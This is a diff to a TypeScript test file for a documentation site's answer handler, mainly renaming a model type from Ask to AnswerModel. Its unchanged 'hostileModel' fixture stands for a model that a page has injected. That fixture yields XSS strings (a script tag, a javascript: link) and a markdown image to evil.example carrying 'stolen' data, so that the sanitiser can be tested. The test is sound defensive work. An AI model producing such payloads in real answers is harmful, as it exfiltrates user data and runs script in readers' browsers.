@@ -1,7 +1,7 @@
 // The reader as a handler: which requests it takes, what it keeps and for how long, who sees what, and what it refuses.
 
 import fc from "fast-check";
-import type { Ask, DocsApiOptions } from "octavo";
+import type { AnswerModel, DocsApiOptions } from "octavo";
 import { createSite } from "octavo/site";
 import { expect, test } from "vitest";
 import { inkOn, readable } from "../../src/site/frame/colors";
@@ -160,7 +160,7 @@ test("a form of another site tells nothing", async () => {
 });
 
 /** A model that was told by a page to do harm. */
-const hostileModel: Ask = async function* (question, { passages, language }) {
+const hostileModel: AnswerModel = async function* (question, { passages, language }) {
   yield `## You asked: ${question} (${language})\n\n<script>alert(1)</script>\n\nSee ![x](https://evil.example/?q=stolen)\n\n`;
   yield "[click](javascript:alert(1)) and [the web](https://example.org/) and `code`\n\n- one\n- two\n\n";
   yield '{% embed url="https://evil.example/" %}\n\n```js\nconst a = 1;\n```\n\n';
@@ -218,7 +218,7 @@ test("a question is answered where the site and the host allow it, from what thi
 
 test("a model that fails is said to, one that nobody reads stops, and without one nothing is offered", async () => {
   let isStopped = false;
-  const model: Ask = async function* (question) {
+  const model: AnswerModel = async function* (question) {
     if (question === "fail") throw new Error("the model is gone");
     try {
       for (let i = 0; i < 1000; i++) yield `Word ${i} of an answer that is very long and has no end.\n\n`;
